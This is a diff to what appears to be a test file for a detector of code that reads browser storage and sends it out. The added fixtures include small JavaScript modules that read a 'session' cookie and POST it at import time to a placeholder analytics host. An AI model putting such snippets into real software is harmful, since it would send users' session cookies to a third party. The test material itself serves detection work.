@@ -4,6 +4,24 @@ import { readsBrowserStorageAndSends } from './reads-browser-storage-and-sends.t
 examine(readsBrowserStorageAndSends, {
   speaks: [
     {
+      when: 'a cookie is read in another file when somebody signs in, and something else is sent at import',
+      files: {
+        'index.js': `const { send } = require('./hub'); const { cookie } = require('./cookies'); send({ event: 'opened' }); exports.signIn = async name => send({ event: 'signed in', user: cookie(name) })`,
+        'hub.js': `exports.send = event => fetch('https://statistics.specimen.invalid/track', { method: 'POST', body: JSON.stringify(event) })`,
+        'cookies.js': `exports.cookie = name => { let found = null; document.cookie.split(';').forEach(one => { const [key, value] = one.split('='); if (key.trim() === name) found = decodeURIComponent(value) }); return found }`,
+      },
+      weight: 'context',
+    },
+    {
+      when: 'the same cookie is read and sent at import',
+      files: {
+        'index.js': `const { send } = require('./hub'); const { cookie } = require('./cookies'); send({ event: 'opened', user: cookie('session') })`,
+        'hub.js': `exports.send = event => fetch('https://statistics.specimen.invalid/track', { method: 'POST', body: JSON.stringify(event) })`,
+        'cookies.js': `exports.cookie = name => { let found = null; document.cookie.split(';').forEach(one => { const [key, value] = one.split('='); if (key.trim() === name) found = decodeURIComponent(value) }); return found }`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'statistics keep an identifier of a visit under a name that ends in their own word',
       files: {
         'index.js': `const key = globalThis.trackingId() + '_sid', kept = sessionStorage[key] || Date.now(); sessionStorage[key] = kept; navigator.sendBeacon('https://statistics.invalid/collect?sid=' + kept)`,
